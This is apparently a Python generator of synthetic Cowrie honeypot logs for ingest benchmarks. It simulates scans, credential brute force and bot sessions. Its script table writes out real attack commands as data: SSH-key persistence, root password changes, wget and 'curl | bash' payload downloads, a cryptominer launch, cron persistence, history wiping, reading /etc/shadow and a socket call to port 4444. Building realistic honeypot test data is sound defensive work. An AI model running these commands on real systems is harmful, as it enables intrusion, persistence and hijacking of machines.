"""A realistic, seeded stream of Cowrie JSON log lines for ingest benchmarks.

Sessions look like a public SSH/Telnet honeypot's day: about a third are bare
scans (connect, banner, key exchange, close), a good part are credential
brute force from common user/password lists, and the rest log in and run
0-20 lines of a real-world bot script (Outlaw key persistence, Mirai loaders,
miner droppers, recon), with the downloads and tunnels those scripts cause.
Random parts (addresses, passwords, file names, applet probes) vary as they
do in real logs, so not every line repeats. Lines are UTF-8 JSON bytes, in
the field layout Cowrie 3.x writes.
"""

import random
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import orjson

SEED = 20261123
SENSORS = ("hp-fra-1", "hp-sgp-2", "hp-nyc-3")
#: Public /16s that show up in honeypot logs; tails are random.
PREFIXES = (
    "45.155", "61.177", "218.92", "183.81", "141.98", "195.178", "92.118",
    "180.101", "43.156", "159.65", "167.94", "103.149", "170.64", "14.103",
)  # fmt: skip
CLIENTS = (
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.9.0",
    "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
    "SSH-2.0-paramiko_2.7.2",
    "SSH-2.0-PuTTY_Release_0.70",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-ZGrab ZGrab SSH Survey",
)
USERS = (
    "root", "admin", "user", "ubuntu", "test", "oracle", "postgres", "pi", "git",
    "guest", "support", "ftpuser", "deploy", "sol", "validator", "hadoop", "debian",
)  # fmt: skip
PASSWORDS = (
    "123456", "admin", "password", "root", "12345678", "1234", "xc3511", "vizxv",
    "raspberry", "qwerty", "123", "1qaz2wsx", "P@ssw0rd", "admin123", "default",
    "toor", "test", "ubuntu", "changeme", "", "7ujMko0admin", "support",
)  # fmt: skip
ARCHES = ("x86", "x86_64", "arm7", "arm", "mips", "mpsl", "m68k", "sh4", "ppc")
KEX = (
    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,"
    "ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256;"
    "aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com;hmac-sha2-256,"
    "hmac-sha2-512,hmac-sha1;none"
)
OUTLAW_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbM"
    "z1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvN"
    "oaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEm"
    "PecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4"
    "Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVK"
    "PRK+oRw== mdrfckr"
)

Line = Callable[[random.Random, str], str]


def _pw(rnd: random.Random, ip: str) -> str:
    return "".join(rnd.choices("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNP23456789", k=12))


def _applet(rnd: random.Random) -> str:
    return "".join(rnd.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ", k=5))


def _hex(rnd: random.Random) -> str:
    body = "".join(f"\\x{rnd.randrange(256):02x}" for _ in range(rnd.randint(8, 40)))
    return "\\x7f\\x45\\x4c\\x46" + body


#: Bot scripts: each line is text or a function of (random, server address).
SCRIPTS: tuple[tuple[Line | str, ...], ...] = (
    (  # Outlaw / "mdrfckr"
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{OUTLAW_KEY}">>.ssh/authorized_'
        "keys && chmod -R go= ~/.ssh && cd ~",
        "cat /proc/cpuinfo | grep name | wc -l",
        lambda r, ip: f'echo "root:{_pw(r, ip)}"|chpasswd|bash',
        "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 "
        "auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        "ls -lh $(which ls)",
        "which ls",
        "crontab -l",
        "w",
        "uname -m",
        "cat /proc/cpuinfo | grep model | grep name | wc -l",
        "top",
        "uname",
        "uname -a",
        "whoami",
        "lscpu | grep Model",
        "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    ),
    (  # Mirai-style loader over a shell
        "enable",
        "system",
        "shell",
        "sh",
        lambda r, ip: f"/bin/busybox {_applet(r)}",
        lambda r, ip: f"cat /proc/mounts; /bin/busybox {_applet(r)}",
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
        lambda r, ip: f"echo -ne '{_hex(r)}' > .s",
        "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
        lambda r, ip: (
            f"wget http://{ip}/bins/{r.choice(ARCHES)}; chmod 777 "
            f"{r.choice(ARCHES)}; ./{r.choice(ARCHES)} telnet.loader"
        ),
        lambda r, ip: (
            f"/bin/busybox wget; /bin/busybox tftp; /bin/busybox {_applet(r)}"
        ),
        "rm -rf .s; exit",
    ),
    (  # miner dropper
        "uname -a; nproc; free -h",
        "lspci | grep -i vga; nvidia-smi",
        "pkill -9 xmrig; pkill -9 kinsing; pkill -9 kdevtmpfsi",
        lambda r, ip: (
            f"cd /tmp; wget -q http://{ip}/xmrig -O .x{r.randrange(99)}; chmod +x .x*"
        ),
        lambda r, ip: (
            f"./.x -o pool.supportxmr.com:443 -u 4{_pw(r, ip)}{_pw(r, ip)} "
            "-p x --donate-level 1 -B"
        ),
        lambda r, ip: f"curl -s http://{ip}/c.sh | bash",
        '(crontab -l 2>/dev/null; echo "@reboot /tmp/.x") | crontab -',
        "history -c; export HISTFILE=/dev/null",
    ),
    (  # hands-on recon
        "uname -s -v -n -r -m",
        "cat /etc/passwd",
        "cat /etc/issue",
        "ifconfig",
        "ps aux",
        "netstat -tulpn",
        "id",
        "ls -la /root",
        "echo 1 && cat /bin/echo",
        "cat /etc/shadow",
        lambda r, ip: (
            f"python3 -c 'import socket;s=socket.socket();s.connect((\"{ip}\",4444))'"
        ),
        "exit",
    ),
)
WEIGHTS = (5, 3, 2, 2)
#: Sessions open at once; their lines interleave as in a real log.
CONCURRENT = 64
_URL = re.compile(r"https?://[^\s;|]+")


def _iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


class _Writer:
    """Serialises one session's events in Cowrie's layout."""

    def __init__(self, rnd: random.Random, ip: str, ts: int, telnet: bool) -> None:
        self.rnd = rnd
        self.ts = ts
        self.lines: list[bytes] = []
        self.base = {
            "session": f"{rnd.getrandbits(48):012x}",
            "protocol": "telnet" if telnet else "ssh",
            "src_ip": ip,
            "src_port": rnd.randrange(1024, 65536),
            "dst_ip": "10.0.0.5",
            "dst_port": rnd.choice((23, 2323)) if telnet else rnd.choice((22, 2222)),
            "sensor": rnd.choice(SENSORS),
        }

    def emit(self, eventid: str, message: str, **fields: object) -> None:
        self.ts += self.rnd.randint(20, 3000)
        line = {
            **self.base,
            **fields,
            "eventid": f"cowrie.{eventid}",
            "timestamp": _iso(self.ts),
            "message": message,
        }
        self.lines.append(orjson.dumps(line))


def _session(rnd: random.Random, ip: str, ts: int, server: str) -> list[bytes]:
    telnet = rnd.random() < 0.2
    out = _Writer(rnd, ip, ts, telnet)
    out.emit("session.connect", f"New connection: {ip}")
    if not telnet:
        version = rnd.choice(CLIENTS)
        out.emit("client.version", f"Remote SSH version: {version}", version=version)
        hassh = f"{rnd.getrandbits(128):032x}"
        out.emit("client.kex", "SSH client hassh", hassh=hassh, hasshAlgorithms=KEX)
    kind = rnd.random()
    if kind >= 0.33:
        for _ in range(rnd.randint(1, 10)):
            user, password = rnd.choice(USERS), rnd.choice(PASSWORDS)
            out.emit(
                "login.failed",
                f"login attempt [{user}/{password}] failed",
                username=user,
                password=password,
            )
    if kind >= 0.70:
        user, password = rnd.choice(("root", "admin")), rnd.choice(PASSWORDS)
        out.emit(
            "login.success",
            f"login attempt [{user}/{password}] succeeded",
            username=user,
            password=password,
        )
        _commands(rnd, out, server)
        if not telnet and rnd.random() < 0.05:
            out.emit(
                "direct-tcpip.request",
                "direct-tcp connection request",
                dst_ip=rnd.choice(("smtp.gmail.com", "ya.ru", "142.250.1.27")),
                dst_port=rnd.choice((25, 443, 80, 587)),
            )
    duration = out.ts - ts
    out.emit("session.closed", "Connection lost", duration_ms=duration)
    return out.lines


def _commands(rnd: random.Random, out: _Writer, server: str) -> None:
    script = rnd.choices(SCRIPTS, WEIGHTS)[0]
    for item in script[: rnd.randint(0, min(20, len(script)))]:
        line = item if isinstance(item, str) else item(rnd, server)
        out.emit("command.input", f"CMD: {line}", input=line)
        for url in _URL.findall(line):
            out.emit(
                "session.file_download",
                f"Downloaded URL ({url})",
                url=url,
                shasum=f"{rnd.getrandbits(256):064x}",
                outfile=f"var/lib/cowrie/downloads/{rnd.getrandbits(64):016x}",
            )


def generate(count: int, seed: int = SEED) -> list[bytes]:
    """Return ``count`` Cowrie JSON lines of interleaved sessions."""
    rnd = random.Random(seed)
    pool = [
        f"{rnd.choice(PREFIXES)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
        for _ in range(30_000)
    ]
    servers = [f"{rnd.choice(PREFIXES)}.{rnd.randrange(256)}.{n}" for n in range(40)]
    clock = [1_795_000_000_000]

    def new_session() -> Iterator[bytes]:
        clock[0] += rnd.randint(0, 400)
        lines = _session(rnd, rnd.choice(pool), clock[0], rnd.choice(servers))
        return iter(lines)

    open_sessions = [new_session() for _ in range(CONCURRENT)]
    lines: list[bytes] = []
    while len(lines) < count:
        slot = rnd.randrange(CONCURRENT)
        line = next(open_sessions[slot], None)
        if line is None:
            open_sessions[slot] = new_session()
        else:
            lines.append(line)
    return lines
